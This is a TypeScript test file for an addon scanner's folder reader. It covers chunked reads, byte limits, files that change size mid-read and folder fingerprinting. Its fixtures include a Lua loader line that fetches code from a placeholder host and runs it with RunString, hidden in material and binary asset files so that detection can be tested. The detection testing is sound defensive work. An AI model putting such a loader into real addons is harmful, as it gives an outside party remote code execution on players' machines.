// Reading an unpacked folder: files read whole into one reused buffer or in chunks when
// large, byte limits inside a file, a file whose size changed since it was listed, and what
// the folder fingerprint follows.
import { createHash } from 'node:crypto';
import { closeSync, mkdirSync, mkdtempSync, openSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { readFileChunks, ScratchBuffer, type FileReading } from './folderReader.js';
import { readArchive } from './index.js';
import { ReadingContext, resolveLimits } from './readingContext.js';

const MiB = 1024 * 1024;
const temp = mkdtempSync(join(tmpdir(), 'sentinelle-folder-'));
afterAll(() => rmSync(temp, { recursive: true, force: true }));

const sha256 = (b: Uint8Array): string => createHash('sha256').update(b).digest('hex');
const decode = (b: Uint8Array | undefined): string => Buffer.from(b ?? []).toString('latin1');

let folders = 0;
function folder(files: Record<string, Uint8Array | string>): string {
  const root = join(temp, `addon-${folders++}`);
  for (const [path, data] of Object.entries(files)) {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    writeFileSync(join(root, path), data);
  }
  return root;
}

/** Binary bytes no text run is made of (NUL, control bytes, ≥ 0x80), from a fixed seed. */
function noise(length: number, seed: number): Buffer {
  const out = Buffer.allocUnsafe(length);
  let x = seed;
  for (let i = 0; i < length; i++) {
    x = (x * 1103515245 + 12345) >>> 0;
    const v = x >>> 24;
    out[i] = v >= 0x80 ? v : v & 0x07;
  }
  return out;
}

const LOADER = 'http.Fetch("https://x.invalid/p", function(b) RunString(b) end)\n';

describe('readArchive on a folder, file by file', () => {
  it('keeps each file its own bytes although one buffer serves every file', async () => {
    const big = `-- big\n${'print("a long line of Lua to make this file large")\n'.repeat(4000)}`;
    const files = {
      'lua/autorun/a_big.lua': big,
      'lua/autorun/b_small.lua': 'print("small")\n',
      'lua/autorun/c_mid.lua': `local t = {}\n${'t[#t + 1] = 1\n'.repeat(500)}`,
      'materials/d.vmt': `"UnlitGeneric"\n{\n}\n${LOADER}`,
      'readme.txt': 'Plain words.\n',
    };
    const contents = await readArchive(folder(files));
    for (const [path, data] of Object.entries(files)) {
      const entry = contents.entries.find((e) => e.path === path)!;
      expect(decode(entry.bytes)).toBe(data);
      expect(entry.size).toBe(data.length);
      if (entry.kind !== 'text') expect(entry.sha256).toBe(sha256(Buffer.from(data)));
    }
  });

  it('reads a file larger than the whole-file size in chunks, Lua across a chunk border included', async () => {
    // 17 MiB of noise with Lua across the 17th MiB border, then a 17 MiB Lua file.
    const asset = noise(17 * MiB + 5000, 1);
    asset.write(LOADER, 17 * MiB - 30, 'latin1');
    const lua = Buffer.alloc(17 * MiB + 3, 'print(1)\n', 'latin1');
    const root = folder({ 'sound/big.wav': asset, 'lua/autorun/big.lua': lua });

    const contents = await readArchive(root);
    const wav = contents.entries.find((e) => e.path === 'sound/big.wav')!;
    expect(wav).toMatchObject({ kind: 'lua_in_asset', size: asset.length });
    expect(decode(wav.bytes)).toContain(LOADER.trim());
    const big = contents.entries.find((e) => e.path === 'lua/autorun/big.lua')!;
    expect(big).toMatchObject({ kind: 'lua', size: lua.length, sha256: sha256(lua) });
    expect(big.bytes?.length).toBe(lua.length);
    expect(contents.limitsReached).toEqual([]);

    // Within the total limit, a large file is cut where the limit falls, like a small one.
    const limited = await readArchive(root, { maxTotalInflatedBytes: 20 * MiB });
    expect(limited.limitsReached).toEqual(['maxTotalInflatedBytes']);
    const first = limited.entries[0]!;
    expect(first).toMatchObject({ path: 'lua/autorun/big.lua', size: lua.length });
    expect(limited.entries[1]).toMatchObject({
      path: 'sound/big.wav',
      size: 20 * MiB - lua.length,
    });
  });

  it('cuts a small file at the total limit too', async () => {
    const root = folder({ 'lua/a.lua': 'x'.repeat(3000), 'lua/b.lua': 'y'.repeat(3000) });
    const contents = await readArchive(root, { maxTotalInflatedBytes: 4000 });
    expect(contents.entries.map((e) => [e.path, e.size])).toEqual([
      ['lua/a.lua', 3000],
      ['lua/b.lua', 1000],
    ]);
    expect(contents.limitsReached).toEqual(['maxTotalInflatedBytes']);
  });
});

describe('readFileChunks on a file that changed since it was looked at', () => {
  const data = Buffer.from(`${LOADER}${'-- more Lua\n'.repeat(300_000)}`); // ~3.5 MiB

  function readWith(declaredSize: number) {
    const path = join(temp, `changing-${declaredSize}.lua`);
    writeFileSync(path, data);
    const ctx = new ReadingContext(resolveLimits());
    const hash = createHash('sha256');
    const reading: FileReading = { length: 0 };
    const fd = openSync(path, 'r');
    try {
      const chunks = [
        ...readFileChunks(ctx, fd, declaredSize, 'x.lua', hash, reading, new ScratchBuffer()),
      ].map((c) => Buffer.from(c));
      return { bytes: Buffer.concat(chunks), chunks: chunks.length, reading, hash, ctx };
    } finally {
      closeSync(fd);
    }
  }

  it('reads on past the size it was told when the file grew', () => {
    for (const declared of [0, 10, data.length - 1]) {
      const { bytes, reading, hash, ctx } = readWith(declared);
      expect(bytes.equals(data)).toBe(true);
      // Not whole in the reused buffer: hashed as the pieces passed.
      expect(reading).toEqual({ length: data.length });
      expect(hash.digest('hex')).toBe(sha256(data));
      expect(ctx.inflatedBytes).toBe(data.length);
    }
  });

  it('stops at the end of the file when the file shrank', () => {
    const { bytes, chunks, reading } = readWith(data.length + 1000);
    expect(bytes.equals(data)).toBe(true);
    expect(chunks).toBe(1);
    expect(reading.length).toBe(data.length);
    expect(reading.whole?.equals(data)).toBe(true);
  });
});

describe('the folder fingerprint', () => {
  it('follows paths, the content of what is analysed, and the size of plain assets', async () => {
    const files = {
      'lua/autorun/a.lua': 'print(1)\n',
      'materials/a.vmt': '"UnlitGeneric"\n{\n}\n',
      'models/a.mdl': noise(10_000, 2),
    };
    const root = folder(files);
    const fingerprint = async (): Promise<string> => (await readArchive(root)).sha256;
    const original = await fingerprint();
    expect(await fingerprint()).toBe(original);

    const edits: [string, Uint8Array | string, boolean][] = [
      ['lua/autorun/a.lua', 'print(2)\n', true],
      ['materials/a.vmt', '"UnlitGeneric"\n{\n}\n\n', true],
      // Same size, other bytes: a plain asset is known by its size (see docs/decisions.md).
      ['models/a.mdl', noise(10_000, 3), false],
      ['models/a.mdl', noise(10_001, 2), true],
    ];
    for (const [path, data, counts] of edits) {
      writeFileSync(join(root, path), data);
      expect((await fingerprint()) !== original).toBe(counts);
      writeFileSync(join(root, path), files[path as keyof typeof files]);
      expect(await fingerprint()).toBe(original);
    }

    // An asset hiding Lua is analysed, so its bytes count.
    const hidden = Buffer.concat([noise(5000, 4), Buffer.from(LOADER.repeat(2))]);
    writeFileSync(join(root, 'models/a.mdl'), hidden);
    const withLua = await fingerprint();
    hidden[10] = hidden[10] === 0x90 ? 0x91 : 0x90;
    writeFileSync(join(root, 'models/a.mdl'), hidden);
    expect(await fingerprint()).not.toBe(withLua);
  });
});
